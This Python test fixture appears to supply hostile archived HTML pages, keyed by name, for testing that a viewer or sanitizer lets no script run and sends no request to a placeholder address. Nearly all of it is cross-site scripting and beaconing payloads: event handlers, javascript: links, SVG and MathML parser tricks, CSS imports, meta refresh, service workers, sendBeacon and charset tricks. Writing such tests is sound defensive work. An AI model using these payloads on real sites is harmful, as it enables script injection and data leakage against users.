"""Archived pages that would act if anybody let them: name -> page. OUT stands for an address that must hear nothing."""

import base64

from tests.originals import Original

OUT = "@@OUT@@"
CELL = "<table><tr><td>新收</td><td>37</td></tr></table>"
ACT = f"fetch('{OUT}/js');alert(1);document.title='ran'"
SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"/>'.encode()).decode()

_INSIDE = {
    "script": f"<script>{ACT}</script>",
    "script-src": f"<script src='{OUT}/a.js'></script><script type=module src='{OUT}/m.js'></script>",
    "script-in-cell": f"<table><tr><td><script>{ACT}</script>9</td></tr></table>",
    "handlers": "".join(
        f'<{tag} {handler}="{ACT}" autofocus tabindex=0 src=x contenteditable>x</{tag}>'
        for tag in ("div", "p", "td", "table", "body", "details open", "marquee", "x-y", "span", "b", "font")
        for handler in (
            "onclick",
            "onfocus",
            "onmouseover",
            "ontoggle",
            "onstart",
            "onpointerenter",
            "onanimationstart",
        )
    ),
    "img": f"<img src='{OUT}/i.png' srcset='{OUT}/s.png 2x' onerror=\"{ACT}\"><picture><source srcset='{OUT}/p.png'></picture>",
    "image-tag": f"<image src='{OUT}/image.png'>",
    "svg": f"<svg onload=\"{ACT}\"><script>{ACT}</script><image href='{OUT}/svg.png'/><use href='{OUT}/u.svg#a'/>"
    f"<foreignObject><iframe src='{OUT}/fo'></iframe></foreignObject><animate onbegin=\"{ACT}\" attributeName=x dur=1s /></svg>",
    "svg-data": f"<img src='data:image/svg+xml;base64,{SVG}'><embed src='data:image/svg+xml;base64,{SVG}'>",
    "math": f"<math><maction actiontype=statusline xlink:href='javascript:{ACT}'>x</maction><mtext><table><mglyph><style>"
    f'<img src=x onerror="{ACT}"></style></mglyph></table></mtext></math>',
    "math-annotation": f"<math><annotation-xml encoding='text/html'><script>{ACT}</script></annotation-xml></math>",
    "css": f"<style>@import '{OUT}/c.css';body{{background:url({OUT}/b.png)}}@font-face{{font-family:x;src:url({OUT}/f)}}"
    f"td{{font-family:x;behavior:url({OUT}/h.htc)}}</style><link rel=stylesheet href='{OUT}/l.css'>",
    "css-inline": f'<div style="background:url({OUT}/in.png);-moz-binding:url({OUT}/x);width:expression(alert(1));'
    f"position:fixed;inset:0;cursor:url({OUT}/cur),auto;text-align:center;list-style:url('{OUT}/li')\">盖住</div>",
    "css-import-broken": f"<style><!--</style><style>--> @\\69mport url({OUT}/esc.css);</style><p style='x:url(\\{OUT}/u)'>",
    "background": f"<table background='{OUT}/bg.png'><tr background='{OUT}/tr'><td background='{OUT}/td'>x</td></tr></table>",
    "links": f"<link rel=preload as=image href='{OUT}/pre.png'><link rel=dns-prefetch href='{OUT}'><link rel=preconnect href='{OUT}'>"
    f"<link rel=prefetch href='{OUT}/pf'><link rel=prerender href='{OUT}/pr'><link rel=icon href='{OUT}/fav.ico'>"
    f"<link rel=manifest href='{OUT}/man'><link rel=modulepreload href='{OUT}/mp.js'>",
    "speculation": f'<script type=speculationrules>{{"prerender":[{{"urls":["{OUT}/spec"]}}]}}</script>',
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}/refresh'><meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    "refresh-in-body": f"<p>x</p></p><meta http-equiv='ReFresh' content='1; URL={OUT}/refresh2'>",
    "meta-csp": f"<meta http-equiv=Content-Security-Policy content=\"report-uri {OUT}/csp; img-src 'none'\"><meta http-equiv=Set-Cookie content='a=b'>",
    "base": f"<base href='{OUT}/base/' target=_top><a href='rel'>x</a><img src=rel.png>",
    "frames": f"<iframe src='{OUT}/frame'></iframe><iframe srcdoc=\"<script>{ACT.replace(chr(34), '')}</script>\"></iframe>"
    f"<object data='{OUT}/o'><param name=src value='{OUT}/param'></object><embed src='{OUT}/e'><applet code='{OUT}/ap'></applet>"
    f"<portal src='{OUT}/portal'></portal><fencedframe src='{OUT}/ff'></fencedframe>",
    "frameset": f"<frameset onload=\"{ACT}\"><frame src='{OUT}/fs'></frameset>",
    "media": f"<video src='{OUT}/v' poster='{OUT}/poster.png' autoplay></video><audio src='{OUT}/a' autoplay></audio>"
    f"<video><source src='{OUT}/vs' onerror=\"{ACT}\"><track src='{OUT}/t' default></video><bgsound src='{OUT}/bg'>",
    "javascript-links": f"<a href='javascript:{ACT}' autofocus>a</a><a href=' java&#10;script:{ACT}'>b</a>"
    f"<a href='data:text/html,<script>{ACT}</script>'>c</a><a href='vbscript:x'>d</a><area href='javascript:{ACT}'>",
    "ping": f"<a id=go href='{OUT}/go' ping='{OUT}/ping' target=_top download>x</a>",
    "form": f"<form action='{OUT}/form' method=post target=_top><input name=a autofocus onfocus=\"{ACT}\"><button formaction="
    f"'javascript:{ACT}'>提交</button><input type=image src='{OUT}/ii.png'><isindex action='{OUT}/ix'></form>",
    "worker": f"<script>navigator.serviceWorker.register('{OUT}/sw.js');new Worker('{OUT}/w.js')</script>",
    "beacon": f"<script>navigator.sendBeacon('{OUT}/b');new WebSocket('{OUT}'.replace('http','ws'))</script>",
    "noscript": f'<noscript><p title="</noscript><img src={OUT}/ns.png onerror=alert(1)>"></noscript>',
    "textarea": f"<textarea><img title=\"</textarea><img src='{OUT}/ta.png' onerror=alert(1)>\"></textarea>",
    "title": f"<title><a title=\"</title><img src='{OUT}/ti.png' onerror=alert(1)>\"></title>",
    "template": f"<template shadowrootmode=open><script>{ACT}</script><img src='{OUT}/te.png'></template>",
    "shadow": f"<div><template shadowroot=open><img src='{OUT}/sh.png'></template></div>",
    "xmp": f"<xmp><img src=x title=\"</xmp><img src='{OUT}/xmp.png' onerror=alert(1)>\"></xmp><noembed><p a=\"</noembed><img src='{OUT}/ne'>\">",
    "style-break": f"<style><p title=\"</style><img src='{OUT}/st.png' onerror=alert(1)>\"></style>",
    "comment": f"<!--><img src='{OUT}/c1.png'>--><!-- --!><img src='{OUT}/c2.png'> --><![CDATA[<img src='{OUT}/cd.png'>]]>",
    "form-table": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src={OUT}/mx>'>",
    "attribute-names": f"<div x=\"1\"on='2' /onclick={ACT!r} \"'><img src={OUT}/q.png onerror=alert(1)> a`=b>x</div>",
    "attribute-text": f"<a href='\"><img src={OUT}/at.png onerror=alert(1)>'>x</a><img alt='\"><script>alert(1)</script>'>",
    "element-names": f"<script/xss src='{OUT}/n1.js'></script><scr\x00ipt>{ACT}</scr\x00ipt><\x00img src={OUT}/n2 onerror=alert(1)><iframe/src='{OUT}/n3'>",
    "plaintext": f"<p>前</p><plaintext><img src='{OUT}/pl.png'>",
    "entities": f"&lt;script&gt;{ACT}&lt;/script&gt;&#60;img src='{OUT}/en.png' onerror=alert(1)&#62;<a href='&#106;avascript:alert(1)'>x</a>",
    "custom": f"<x-evil is=script src='{OUT}/cu'></x-evil><o:p onclick=alert(1)>x</o:p><xml><![if gte mso 9]><img src='{OUT}/mso'><![endif]></xml>",
    "nested": f"<b><table><a href='{OUT}/ne1'><tr><p><td><img src='{OUT}/ne2' onerror=alert(1)></td></p></tr></a></table></b>",
    "id": "<p id=lit class=nb-lit>不是这里</p><mark id=lit class=nb-lit>38</mark><a name=lit>x</a>",
    "bidi": "<p>‮73‬ &#x202e;abc&#x2066;def \u200f</p><p dir=rtl>x</p><bdo dir=rtl>123</bdo>",
    "dialog": "<dialog open style='position:fixed;inset:0;width:100%'>登录</dialog><div popover id=pp>x</div><button popovertarget=pp>y</button>",
    "unclosed": f"<div title='<img src={OUT}/uc.png onerror=alert(1)>",
}

_PAGES = {
    "xhtml": f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "{OUT}/ent"><!ENTITY y "<script>alert(1)</script>">]>'
    f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script>{ACT}</script></head><body>&x;&y;{CELL}</body></html>',
    "xslt": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{OUT}/x.xsl"?><html><body>{CELL}</body></html>',
    "body-handlers": f'<html onload="{ACT}"><body onload="{ACT}" onpageshow=alert(1) background=\'{OUT}/bb.png\'>{CELL}</body></html>',
    "before-html": f"<script>{ACT}</script>{CELL}<html><head><link rel=stylesheet href='{OUT}/h.css'>",
    "no-body": f"<table><td>37</td></table><img src='{OUT}/nb.png' onerror=alert(1)>",
    "meta-charset": f"<meta charset=utf-7>{CELL}+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img src='{OUT}/u7.png'>",
}


def originals(out: str) -> dict[str, Original]:
    """Every page, with the address that must hear nothing put in."""
    pages = {name: f"<html><head></head><body>{CELL}{inside}</body></html>" for name, inside in _INSIDE.items()}
    made = {name: Original(page.replace(OUT, out).encode()) for name, page in (pages | _PAGES).items()}
    script = f"<html><body>{CELL}<script>{ACT}</script><p>é旗</p></body></html>".replace(OUT, out)
    made["utf-16"] = Original(b"\xff\xfe" + script.encode("utf-16-le"))
    made["gbk"] = Original(script.replace("é", "").encode("gb18030"), "text/html; charset=gbk")
    made["iso-2022"] = Original(b"\x1b$B" + script.encode(), "text/html; charset=iso-2022-jp")
    made["utf-7"] = Original(script.encode(), "text/html; charset=utf-7")
    made["mime-svg"] = Original(script.encode(), "image/svg+xml")
    made["mhtml"] = _mhtml(script, out)
    made["text"] = Original(
        f"新收 37 件\n<script>{ACT}</script>\n<img src={out}/txt.png>\n".encode(), "text/plain", "line 1 @3-5"
    )
    return made


def _mhtml(page: str, out: str) -> Original:
    head = f'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\nContent-Location: {out}/saved\n\n'
    part = f"--b\nContent-Type: text/html; charset=utf-8\nContent-Location: {out}/page\n\n{page}\n--b--\n"
    return Original((head + part).encode(), "multipart/related", "/html/body/table/tr/td[2]")
